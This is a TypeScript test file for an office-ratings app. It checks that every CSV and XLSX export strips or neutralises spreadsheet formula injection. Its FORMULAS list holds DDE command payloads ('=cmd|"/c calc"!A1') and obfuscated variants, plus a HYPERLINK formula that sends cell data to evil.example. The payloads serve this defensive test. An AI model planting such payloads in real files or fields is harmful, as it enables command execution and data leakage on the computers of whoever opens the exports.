import type { Roster } from '@hailong/schema/roster';
import type { TablePreview } from '@hailong/schema/table-import';
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { expect, test } from 'vitest';
import { anOfficeWithWork } from '../test/an-office-with-work.ts';
import type { Ask } from '../test/asker.ts';
import { MONTH } from '../test/every-write.ts';
import { MATRIX } from '../test/role-matrix.ts';
import { aSampleRating, FIRST_OFFICER, sendRatings } from '../test/send-ratings.ts';

const FORMULAS = [
  '=cmd|"/c calc"!A1',
  '+cmd|"/c calc"!A1',
  '-2+3+cmd|"/c calc"!A1',
  '@SUM(cmd)',
  '\t=cmd',
  '\r\n=cmd',
  ' \uFEFF=cmd',
  '\u00A0＝cmd',
  '＋cmd',
  '－cmd',
  '＠cmd',
  'tốt;=cmd',
  'tốt\t=cmd',
  'tốt\n=cmd',
  '"=cmd"',
  '=HYPERLINK("http://evil.example?x="&A1,"cmd")',
];
const [formula = ''] = FORMULAS;

// What spreadsheets trim or skip may stand in front.
const RUNS = /^[\s\0\uFEFF]*[=+\-@\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}]/u;

const FILES = Object.keys(MATRIX)
  .filter((row) => /^GET .*\.(?:csv|xlsx)$/.test(row))
  .map((row) =>
    row.replace('GET ', '').replace('{office}', 'van-gia').replace('{month}', MONTH).replace('{period}', '2026-Q4'),
  );

const plantByAdministrator = async (ask: Ask): Promise<void> => {
  const { entries } = (await ask('GET', '/roster')).json<Roster>();
  const entry = entries.find(({ id }) => id === FIRST_OFFICER);
  const changed = { ...entry, name: formula, position: formula, code: formula, fields: [formula] };
  expect((await ask('PUT', `/roster/entries/${FIRST_OFFICER}`, changed)).statusCode).toBe(200);
  const cell = `"${formula.replaceAll('"', '""')}"`;
  const file = Buffer.from(`field;code;name\n${cell};9.1;${cell}`);
  const query = 'name=a.csv&missing=keep';
  const { fingerprint } = (await ask('POST', `/tables/procedures/preview?${query}`, file)).json<TablePreview>();
  const imported = await ask('POST', `/tables/procedures/import?${query}&fingerprint=${fingerprint}`, file);
  expect(imported.statusCode).toBe(204);
  const hidden = await ask('PUT', '/procedures/fields', { field: formula, offered: false });
  expect(hidden.statusCode).toBe(200);
};

/** Cells as programs cut them that split at a comma, at ";" (Excel in Vietnamese) or at tabs. */
const cellsOf = (csv: string): string[] =>
  [',', ';', '\t'].flatMap((delimiter) =>
    parse(csv, { bom: true, delimiter, relax_column_count: true, relax_quotes: true }).flat(),
  );

/** Whether what was written is there at all, and what of it a program would run. */
interface Found {
  readonly isPlanted: boolean;
  readonly running: readonly string[];
}

const workbook = (bytes: Buffer): Found => {
  const everything = Object.values(unzipSync(bytes))
    .map((part) => strFromU8(part))
    .join('');
  const running = everything.match(/<f[ >]|<hyperlink|externalLink|<connection|vbaProject|<oleObject/g) ?? [];
  return { isPlanted: everything.includes('/c calc'), running };
};

const table = (csv: string): Found => ({
  isPlanted: csv.includes('cmd'),
  running: cellsOf(csv).filter((cell) => RUNS.test(cell)),
});

test('no file that anybody can take away holds a formula, whoever wrote it into whichever field', async () => {
  const { app, askers } = await anOfficeWithWork();
  await plantByAdministrator(askers.administrator);
  const written = FORMULAS.map((text) =>
    aSampleRating({ comment: text, customerName: text, procedure: { name: text }, language: text.slice(0, 35) }),
  );
  await sendRatings(app, written);
  expect(FILES.length).toBeGreaterThan(7);
  for (const path of [...FILES, `/api/offices/van-gia/months/${MONTH}/ratings.csv?names=1`]) {
    const ask = path.includes('/tables/') ? askers.administrator : askers.statistician;
    const reply = await ask('GET', path);
    expect([path, reply.statusCode]).toEqual([path, 200]);
    const { isPlanted, running } = path.endsWith('.xlsx') ? workbook(reply.rawPayload) : table(reply.body);
    expect([path, isPlanted, running]).toEqual([path, true, []]);
  }
});
